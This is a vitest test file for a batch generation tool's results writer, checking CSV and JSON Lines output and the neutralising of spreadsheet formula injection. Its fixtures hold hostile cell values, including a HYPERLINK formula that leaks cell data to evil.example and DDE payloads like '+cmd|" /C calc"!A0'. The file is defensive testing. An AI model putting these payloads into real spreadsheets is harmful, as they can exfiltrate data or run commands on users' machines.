import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ConfigError, type ConfigErrors } from '../../src/errors/config-error.js';
import { compileJob } from '../../src/job/compile-job.js';
import type { InputDialect, Job } from '../../src/job/job.js';
import { resultsDialect } from '../../src/outputs/results-dialect.js';
import { formatUsd, neutraliseFormula, writeResults, type ResultRecord } from '../../src/outputs/results-writer.js';
import { StateStore } from '../../src/store/state-store.js';
import { useTempDir } from '../helpers/temp-dir.js';

const tempDir = useTempDir();

/** A three-step job: JSON brief → image with an output file → plain text notes (no json, no file). */
function jobIn(dir: string, results: unknown): Job {
  return compileJob(
    {
      version: 1,
      name: 'results-test',
      input: { file: 'posts.csv', id: 'slug' },
      credentials: 'credentials.yaml',
      steps: [
        {
          name: 'brief',
          task: 'text',
          model: 'gemini-2.5-flash',
          prompt: 'Brief for {{title}}',
          json: { alt_text: 'string', score: 'number', tags: 'string[]' },
        },
        { name: 'hero', task: 'image', model: 'gemini-2.5-flash-image', prompt: '{{steps.brief.alt_text}}', output: { file: 'images/{{slug}}.png' } },
        { name: 'notes', task: 'text', model: 'gemini-2.5-flash', prompt: 'Notes on {{title}}' },
      ],
      results,
    },
    join(dir, 'job.yaml'),
  );
}

const RUN = 'run-1';
const call = (itemId: string, step: string, costUsd: number) => ({
  runId: RUN,
  itemId,
  step,
  project: 'proj-a',
  model: step === 'hero' ? 'gemini-2.5-flash-image' : 'gemini-2.5-flash',
  httpStatus: 200,
  inputTokens: 100,
  outputTokens: 50,
  thoughtsTokens: 0,
  images: step === 'hero' ? 1 : 0,
  videoSeconds: 0,
  characters: 0,
  costUsd,
  durationMs: 12,
});

/** Items whose ids and replies are hostile to spreadsheets, filled through the store's public methods. */
function fillStore(job: Job): StateStore {
  const store = StateStore.open(job.stateFile);
  const ids = ['kubernetes-1', '@SUM(1+1)', '=cmd|calc', '-5', 'pending-one'];
  store.upsertItems(
    ids.map((id, ord) => ({ id, ord, line: ord + 2, values: { slug: id, title: `Title ${ord}` }, inputHash: `h${ord}` })),
    job.steps.map((s) => s.name),
    RUN,
  );
  store.startRun({ id: RUN, pid: process.pid, host: 'test', options: {} });
  const done = (
    id: string,
    step: string,
    result: unknown,
    outputs: string[],
    cost: number,
    extra: { model?: string; cached?: boolean; finishReason?: string; truncated?: boolean } = {},
  ): void => {
    store.markRunning(id, step, RUN, 'proj-a');
    store.completeStep(id, step, { result, outputs, promptHash: 'p', costUsd: cost, ...extra }, call(id, step, cost));
  };
  // 1: everything done, ordinary values.
  done('kubernetes-1', 'brief', { text: '{…}', alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] }, [], 0.0012, {
    finishReason: 'STOP',
  });
  // The hero image came from a fallback model, the notes from the response cache.
  done('kubernetes-1', 'hero', { file: 'images/kubernetes-1.png', files: ['images/kubernetes-1.png'] }, ['images/kubernetes-1.png'], 0.039, {
    model: 'imagen-4.0-fast-generate-001',
  });
  done('kubernetes-1', 'notes', { text: 'Line one,\nline two; with "quotes" | and a pipe' }, [], 0.0004, { model: 'gemini-2.5-flash', cached: true });
  // 2: formula payloads in the id and in every JSON field; a negative score stays a number.
  done('@SUM(1+1)', 'brief', { alt_text: '=HYPERLINK("http://evil.example/?leak="&A1, "click")', score: -3, tags: ['=1+1'] }, [], 0.001);
  done('@SUM(1+1)', 'hero', { file: 'images/@SUM(1+1).png' }, ['images/@SUM(1+1).png'], 0.039);
  // Its notes were cut at max_output_tokens and kept (on_truncated: keep).
  done('@SUM(1+1)', 'notes', { text: '+cmd|" /C calc"!A0' }, [], 0.0003, { finishReason: 'MAX_TOKENS', truncated: true });
  // 3: brief done, hero filtered with its reason, notes never ran.
  done('=cmd|calc', 'brief', { alt_text: '\t=2+5', score: 1, tags: [] }, [], 0.001);
  store.markRunning('=cmd|calc', 'hero', RUN, 'proj-a');
  store.finishStep(
    '=cmd|calc',
    'hero',
    'filtered',
    { code: 'SAFETY_FILTERED', message: 'IMAGE_SAFETY: the image may violate the usage guidelines.', finishReason: 'IMAGE_SAFETY' },
    call('=cmd|calc', 'hero', 0.0001),
  );
  // 4: failed with an error message that itself looks like a formula.
  store.markRunning('-5', 'brief', RUN, 'proj-a');
  store.finishStep('-5', 'brief', 'failed', {
    code: 'BAD_RESPONSE',
    message: '-2+3 is not valid JSON (gave up after 3 attempts)',
    costUsd: 0.0005,
    finishReason: 'OTHER',
  });
  // 5: untouched.
  return store;
}

function readCsv(file: string): Record<string, string>[] {
  return parse(readFileSync(file), { columns: true }) as Record<string, string>[];
}

describe('formatUsd', () => {
  it.each([
    [0, '0'],
    [0.0406, '0.0406'],
    [0.0000027272, '0.000002727'],
    [1e-10, '0'],
    [12.5, '12.5'],
    [3, '3'],
    [0.1 + 0.2, '0.3'],
  ])('%s → %s', (usd, text) => {
    expect(formatUsd(usd)).toBe(text);
  });
});

describe('neutraliseFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['plain', 'plain'],
    ['', ''],
    ['a=1', 'a=1'],
    ['-5', '-5'],
    ['+1.5', '+1.5'],
    ['-2e-4', '-2e-4'],
    ['-', "'-"],
  ])('%j → %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });
});

describe('writeResults', () => {
  it('writes CSV: id, each step’s state, files, JSON fields, text and error, then the cost', async () => {
    const dir = tempDir();
    const job = jobIn(dir, 'out/nested/results.csv');
    const store = fillStore(job);
    try {
      const written = await writeResults(job, store, join(dir, '.genbatch', 'scratch'));
      expect(written).toBe(join(dir, 'out', 'nested', 'results.csv'));
      const text = readFileSync(join(dir, 'out', 'nested', 'results.csv'), 'utf8');
      expect(text.split('\n')[0]).toBe(
        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_finish_reason,notes_error,cost_usd',
      );
      const rows = readCsv(join(dir, 'out', 'nested', 'results.csv'));
      expect(rows.map((r) => r.id)).toEqual(['kubernetes-1', "'@SUM(1+1)", "'=cmd|calc", '-5', 'pending-one']);
      expect(rows[0]).toEqual({
        id: 'kubernetes-1',
        brief_state: 'done',
        brief_model: 'gemini-2.5-flash',
        brief_cached: '',
        brief_alt_text: 'A ship’s wheel, "helm", on blue',
        brief_score: '0.75',
        brief_tags: '["k8s","ops"]',
        brief_finish_reason: 'STOP',
        brief_error: '',
        hero_state: 'done',
        hero_model: 'imagen-4.0-fast-generate-001',
        hero_cached: '',
        hero_file: 'images/kubernetes-1.png',
        hero_finish_reason: '',
        hero_error: '',
        notes_state: 'done',
        notes_model: 'gemini-2.5-flash',
        notes_cached: 'yes',
        notes_text: 'Line one,\nline two; with "quotes" | and a pipe',
        notes_finish_reason: '',
        notes_error: '',
        cost_usd: '0.0406',
      });
      expect(rows[2]).toMatchObject({
        brief_state: 'done',
        hero_state: 'filtered',
        hero_model: '',
        hero_finish_reason: 'IMAGE_SAFETY',
        hero_error: 'IMAGE_SAFETY: the image may violate the usage guidelines.',
        notes_state: 'pending',
      });
      expect(rows[3]).toMatchObject({
        brief_state: 'failed',
        brief_finish_reason: 'OTHER',
        brief_error: "'-2+3 is not valid JSON (gave up after 3 attempts)",
        hero_state: 'pending',
        brief_alt_text: '',
      });
      expect(rows[4]).toMatchObject({ brief_state: 'pending', hero_state: 'pending', notes_state: 'pending', cost_usd: '0' });
      // No temp file left behind, beside the results or in the scratch folder (which keeps only its
      // record of the folders written into).
      expect(readdirSync(join(dir, '.genbatch', 'scratch'))).toEqual(['output-folders']);
      expect(readdirSync(join(dir, 'out', 'nested'))).toEqual(['results.csv']);
    } finally {
      store.close();
    }
  });

  it('neutralises formula injection in every text cell, and leaves numbers numeric', async () => {
    const dir = tempDir();
    const job = jobIn(dir, 'results.csv');
    const store = fillStore(job);
    try {
      await writeResults(job, store, join(dir, 'scratch'));
      const rows = readCsv(join(dir, 'results.csv'));
      const evil = rows[1];
      expect(evil).toMatchObject({
        id: "'@SUM(1+1)",
        brief_alt_text: `'=HYPERLINK("http://evil.example/?leak="&A1, "click")`,
        brief_score: '-3',
        brief_tags: '["=1+1"]',
        hero_file: 'images/@SUM(1+1).png',
        notes_text: `'+cmd|" /C calc"!A0`,
      });
      expect(rows[2]).toMatchObject({ id: "'=cmd|calc", brief_alt_text: "'\t=2+5" });
      // No text cell of any row starts with a formula character; cost cells are plain decimals.
      for (const row of rows) {
        for (const [column, value] of Object.entries(row)) {
          if (column === 'cost_usd' || column === 'brief_score' || (column === 'id' && value === '-5')) continue;
          expect(value, `${row.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
        }
        expect(row.cost_usd).toMatch(/^\d+(\.\d{1,9})?$/);
        expect(Number(row.cost_usd)).not.toBeNaN();
      }
      expect(Number(rows[1]?.cost_usd)).toBeCloseTo(0.0403, 6);
      expect(Number(rows[3]?.cost_usd)).toBeCloseTo(0.0005, 6);
    } finally {
      store.close();
    }
  });

  it('writes JSON Lines with the same records, values in their JSON types and not neutralised', async () => {
    const dir = tempDir();
    const job = jobIn(dir, 'out/results.jsonl');
    const store = fillStore(job);
    try {
      await writeResults(job, store, join(dir, 'scratch'));
      const lines = readFileSync(join(dir, 'out', 'results.jsonl'), 'utf8')
        .trimEnd()
        .split('\n');
      const records = lines.map((l) => JSON.parse(l) as ResultRecord);
      expect(records.map((r) => r.id)).toEqual(['kubernetes-1', '@SUM(1+1)', '=cmd|calc', '-5', 'pending-one']);
      expect(records[0]).toEqual({
        id: 'kubernetes-1',
        steps: {
          brief: {
            state: 'done',
            model: 'gemini-2.5-flash',
            cached: false,
            files: [],
            fields: { alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] },
            finish_reason: 'STOP',
          },
          hero: { state: 'done', model: 'imagen-4.0-fast-generate-001', cached: false, files: ['images/kubernetes-1.png'], fields: {} },
          notes: { state: 'done', model: 'gemini-2.5-flash', cached: true, files: [], fields: {}, text: 'Line one,\nline two; with "quotes" | and a pipe' },
        },
        cost_usd: 0.0406,
      });
      expect(records[1]?.steps.brief?.fields).toEqual({ alt_text: '=HYPERLINK("http://evil.example/?leak="&A1, "click")', score: -3, tags: ['=1+1'] });
      expect(records[1]?.steps.notes).toMatchObject({ state: 'done', finish_reason: 'MAX_TOKENS', truncated: true });
      expect(records[2]?.steps.hero).toEqual({
        state: 'filtered',
        files: [],
        fields: {},
        error: 'IMAGE_SAFETY: the image may violate the usage guidelines.',
        finish_reason: 'IMAGE_SAFETY',
      });
      expect(records[3]?.steps.brief).toMatchObject({ state: 'failed', error: '-2+3 is not valid JSON (gave up after 3 attempts)' });
      expect(typeof records[3]?.cost_usd).toBe('number');
    } finally {
      store.close();
    }
  });

  it('`fields` chooses the JSON fields (and texts) that go to the results', async () => {
    const dir = tempDir();
    const job = jobIn(dir, 'results.csv');
    const store = fillStore(job);
    try {
      await writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_text'] });
      const header = readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0];
      expect(header).toBe(
        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_finish_reason,notes_error,cost_usd',
      );

      await writeResults(job, store, join(dir, 'scratch'), { fields: ['notes.text', 'brief.*', 'brief.score'] });
      expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_finish_reason,notes_error,cost_usd',
      );

      await writeResults(job, store, join(dir, 'scratch'), { fields: [] });
      expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
        'id,brief_state,brief_model,brief_cached,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_finish_reason,notes_error,cost_usd',
      );
    } finally {
      store.close();
    }
  });

  it('refuses an unknown field, suggesting the nearest, before writing anything', async () => {
    const dir = tempDir();
    const job = jobIn(dir, 'results.csv');
    const store = fillStore(job);
    try {
      const attempt = writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_txt'] });
      await expect(attempt).rejects.toBeInstanceOf(ConfigError);
      await expect(writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_txt'] })).rejects.toThrow(
        /"brief\.alt_txt" is not a field of any step; did you mean "brief\.alt_text"\?/,
      );
      await expect(writeResults(job, store, join(dir, 'scratch'), { fields: ['hero.text'] })).rejects.toThrow(/not a field/);
      expect(existsSync(join(dir, 'results.csv'))).toBe(false);
    } finally {
      store.close();
    }
  });

  it('replaces an earlier results file whole, and writes nothing when the job has no results file', async () => {
    const dir = tempDir();
    const job = jobIn(dir, 'results.csv');
    const store = fillStore(job);
    try {
      await writeResults(job, store, join(dir, 'scratch'));
      const first = readFileSync(join(dir, 'results.csv'), 'utf8');
      store.markRunning('pending-one', 'brief', RUN, 'proj-a');
      store.completeStep(
        'pending-one',
        'brief',
        { result: { alt_text: 'late', score: 2, tags: [] }, outputs: [], promptHash: 'p', costUsd: 0.002 },
        call('pending-one', 'brief', 0.002),
      );
      await writeResults(job, store, join(dir, 'scratch'));
      const second = readCsv(join(dir, 'results.csv'));
      expect(second).toHaveLength(5);
      expect(second[4]).toMatchObject({ id: 'pending-one', brief_state: 'done', brief_alt_text: 'late', cost_usd: '0.002' });
      expect(first).not.toContain(',late,');

      const { resultsFile: _omit, ...withoutResults } = job;
      expect(await writeResults(withoutResults, store, join(dir, 'scratch'))).toBeUndefined();
    } finally {
      store.close();
    }
  });
});

describe('the results file for spreadsheet users (issue 27.6)', () => {
  const excel: InputDialect = { spreadsheet: true, delimiter: ';', bom: true, crlf: true, encoding: 'utf-8' };
  const tool: InputDialect = { spreadsheet: false, delimiter: ',', bom: false, crlf: false, encoding: 'utf-8' };

  it.each([
    ['results: PATH, a tool-written input', 'r.csv', tool, { delimiter: ',', bom: false, crlf: false, idColumn: 'id', columns: [] }],
    ['results: PATH, no input read (library)', 'r.csv', undefined, { delimiter: ',', bom: false, crlf: false, idColumn: 'id', columns: [] }],
    ['results: PATH, an Excel export', 'r.csv', excel, { delimiter: ';', bom: true, crlf: true, idColumn: 'slug', columns: [] }],
    [
      'a windows-1252 export: a BOM, since the results are UTF-8',
      'r.csv',
      { ...excel, bom: false, encoding: 'windows-1252' },
      { delimiter: ';', bom: true, crlf: true, idColumn: 'slug', columns: [] },
    ],
    [
      'the object form wins over the input; the id column is not carried twice',
      { file: 'r.csv', delimiter: 'tab', bom: false, columns: ['title', 'slug'] },
      excel,
      { delimiter: '\t', bom: false, crlf: true, idColumn: 'slug', columns: ['title'] },
    ],
    [
      'the object form over a tool-written input',
      { file: 'r.csv', columns: ['title'] },
      tool,
      { delimiter: ',', bom: false, crlf: false, idColumn: 'slug', columns: ['title'] },
    ],
  ])('%s', (_, results, inputDialect, expected) => {
    const job = jobIn(tempDir(), results);
    expect(resultsDialect(inputDialect ? { ...job, inputDialect } : job)).toEqual(expected);
  });

  it('writes the dialect: BOM, semicolons, CRLF, input columns neutralised like every text cell; JSON Lines carry them under "input"', async () => {
    const dir = tempDir();
    const job = { ...jobIn(dir, { file: 'results.csv', columns: ['title'], fields: ['brief.score'] }), inputDialect: excel };
    const store = fillStore(job);
    try {
      await writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.score'] });
      const bytes = readFileSync(join(dir, 'results.csv'));
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.subarray(3).toString('utf8');
      const lines = text.split('\r\n');
      expect(lines[0]).toBe(
        'slug;title;brief_state;brief_model;brief_cached;brief_score;brief_finish_reason;brief_error;hero_state;hero_model;hero_cached;hero_file;hero_finish_reason;hero_error;notes_state;notes_model;notes_cached;notes_finish_reason;notes_error;cost_usd',
      );
      expect(lines[1]).toMatch(/^kubernetes-1;Title 0;done;/);
      expect(lines[2]).toMatch(/^'@SUM\(1\+1\);Title 1;done;/);
      const jsonl = { ...job, resultsFile: join(dir, 'results.jsonl') };
      await writeResults(jsonl, store, join(dir, 'scratch'), { fields: ['brief.score'] });
      const first = JSON.parse(readFileSync(join(dir, 'results.jsonl'), 'utf8').split('\n')[0]!) as ResultRecord;
      expect(first).toMatchObject({ id: 'kubernetes-1', input: { title: 'Title 0' } });
    } finally {
      store.close();
    }
  });

  it('refuses a delimiter of more than one character, a quote, and CSV keys on a JSON Lines file, naming the key', () => {
    const dir = tempDir();
    const problems = (results: unknown): string[] => {
      try {
        jobIn(dir, results);
        return [];
      } catch (error) {
        return (error as ConfigErrors).problems.map((e) => `${String(e.keyPath)}: ${e.message}`);
      }
    };
    expect(problems({ file: 'r.csv', delimiter: ';;' })).toEqual([
      expect.stringMatching(/^results\.delimiter: .*";;" is not a delimiter: it must be one character/),
    ]);
    expect(problems({ file: 'r.csv', delimiter: '"' })).toHaveLength(1);
    expect(problems({ file: 'r.jsonl', bom: true })).toEqual([expect.stringMatching(/^results\.bom: .*applies to a CSV results file/)]);
    expect(problems({ file: 'r.csv', delimiter: 'semicolon', bom: true, columns: ['title'] })).toEqual([]);
  });
});
